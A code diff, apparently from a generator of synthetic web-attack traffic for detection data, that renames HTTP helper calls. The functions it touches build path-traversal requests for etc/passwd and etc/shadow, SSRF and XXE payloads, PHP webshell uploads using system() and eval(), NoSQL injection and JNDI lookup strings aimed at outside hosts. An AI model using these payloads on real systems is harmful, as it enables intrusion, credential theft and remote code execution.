@@ -158,19 +158,19 @@ def path_traversal(rng: Random, who: Actor) -> str:
     end = rng.choice(("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "etc/hosts", "web.config"))
     start = words.name(rng) + "/" if rng.random() < 0.5 else ""
     if rng.random() < 0.4:
-        return http.request(rng, who, f"{http.path(rng, ('',))}/{up}{end}")
+        return http.get(rng, who, f"{http.path(rng, ('',))}/{up}{end}")
     field = rng.choice(("file", "page", "template", "doc", "download", "lang"))
-    return http.request(rng, who, f"{http.path(rng)}?{field}={start}{up}{end}")
+    return http.get(rng, who, f"{http.path(rng)}?{field}={start}{up}{end}")
 
 
 def climb_out(rng: Random, who: Actor) -> str:
     """A `..` too many."""
-    return http.request(rng, who, _climb(rng, out=True))
+    return http.get(rng, who, _climb(rng, out=True))
 
 
 def climb_within(rng: Random, who: Actor) -> str:
     """A `..` that stays inside its root, as page builders write it (hard benign)."""
-    return http.request(rng, who, _climb(rng, out=False))
+    return http.get(rng, who, _climb(rng, out=False))
 
 
 def _fetch(rng: Random, who: Actor, *, from_inside: bool) -> str:
@@ -182,7 +182,7 @@ def _fetch(rng: Random, who: Actor, *, from_inside: bool) -> str:
     fields = [(fetch, f"http://{target}/{words.name(rng)}"), (back, f"http://{source}/{words.name(rng)}")]
     rng.shuffle(fields)
     query = "&".join(f"{key}={value}" for key, value in fields)
-    return http.request(rng, who, f"{http.path(rng)}?{query}")
+    return http.get(rng, who, f"{http.path(rng)}?{query}")
 
 
 def ssrf(rng: Random, who: Actor) -> str:
@@ -217,7 +217,7 @@ def xxe(rng: Random, who: Actor) -> str:
     source = rng.choice(("file:///etc/passwd", f"http://{words.inside(rng)}/{entity}", "file:///c:/windows/win.ini"))
     kind = rng.choice(("", "% "))
     doc = f'<!DOCTYPE {root} [<!ENTITY {kind}{entity} SYSTEM "{source}">]><{root}>&{entity};</{root}>'
-    return http.request(rng, who, http.path(rng), method="POST", body='<?xml version="1.0"?>' + doc)
+    return http.send(rng, who, http.Request(http.path(rng), method="POST", body='<?xml version="1.0"?>' + doc))
 
 
 def xml_body(rng: Random, who: Actor) -> str:
@@ -225,7 +225,7 @@ def xml_body(rng: Random, who: Actor) -> str:
     entity, root, tag = words.name(rng, 1), words.name(rng), rng.choice(words.NOUNS)
     head = rng.choice(("", f'<!DOCTYPE {root} [<!ENTITY {entity} "{words.thing(rng)}">]>', f"<!DOCTYPE {root}>"))
     doc = f"{head}<{root}><{tag}>{words.thing(rng)}</{tag}></{root}>"
-    return http.request(rng, who, http.path(rng), method="POST", body='<?xml version="1.0"?>' + doc)
+    return http.send(rng, who, http.Request(http.path(rng), method="POST", body='<?xml version="1.0"?>' + doc))
 
 
 def webshell(rng: Random, who: Actor) -> str:
@@ -233,10 +233,10 @@ def webshell(rng: Random, who: Actor) -> str:
     file = words.name(rng) + rng.choice((".php", ".jsp", ".php.jpg", ".phtml", ".aspx"))
     if rng.random() < 0.4:
         command = rng.choice(("id", "whoami", "ls -la", "net user", "uname -a"))
-        return http.request(rng, who, f"/uploads/{file}?{words.letters(rng, 'cmdxq', 1, 3)}={command}")
+        return http.get(rng, who, f"/uploads/{file}?{words.letters(rng, 'cmdxq', 1, 3)}={command}")
     key = words.letters(rng, "abcdxyz", 1, 4)
     code = rng.choice((f"<?php system($_GET['{key}']); ?>", f"<?php eval($_POST['{key}']); ?>"))
-    return http.request(rng, who, f"/uploads/{file}", method=rng.choice(("PUT", "POST")), body=code)
+    return http.send(rng, who, http.Request(f"/uploads/{file}", method=rng.choice(("PUT", "POST")), body=code))
 
 
 def probing(rng: Random, who: Actor) -> str:
@@ -245,7 +245,7 @@ def probing(rng: Random, who: Actor) -> str:
     if rng.random() < 0.4:
         tool = rng.choice(("nikto/2.5", "sqlmap/1.8", "nuclei/3.2", "masscan/1.3", "dirbuster"))
         return f'HTTP GET {target} host={who.site} src={who.wan} ua="{tool}"'
-    return http.request(rng, who, target)
+    return http.get(rng, who, target)
 
 
 def nosqli(rng: Random, who: Actor) -> str:
@@ -255,9 +255,9 @@ def nosqli(rng: Random, who: Actor) -> str:
     roll = rng.random()
     if roll < 0.3:
         body = f'{{"{field}": "{words.name(rng)}", "pass": {{"{operator}": "{value}"}}}}'
-        return http.request(rng, who, http.path(rng), method="POST", body=body)
+        return http.send(rng, who, http.Request(http.path(rng), method="POST", body=body))
     if roll < 0.6:
-        return http.request(rng, who, f"{http.path(rng)}?{field}={words.name(rng)}&pass[{operator}]={value}")
+        return http.get(rng, who, f"{http.path(rng)}?{field}={words.name(rng)}&pass[{operator}]={value}")
     where = f"' || this.{words.name(rng, 1)}=='{words.name(rng, 1)}' || '{rng.randrange(9)}'=='"
     return http.submit(rng, who, http.path(rng), [(field, words.name(rng) + where)])
 
@@ -267,5 +267,5 @@ def lookup_injection(rng: Random, who: Actor) -> str:
     scheme = rng.choice(("ldap", "rmi", "dns", "${lower:l}dap"))
     value = f"${{jndi:{scheme}://{words.outside(rng)}/{words.name(rng)}}}"
     if rng.random() < 0.5:
-        return http.request(rng, who, http.path(rng), agent=value)
+        return http.send(rng, who, http.Request(http.path(rng), agent=value))
     return http.submit(rng, who, http.path(rng), [(rng.choice(("user", *http.KEY_FIELDS)), words.name(rng) + value)])
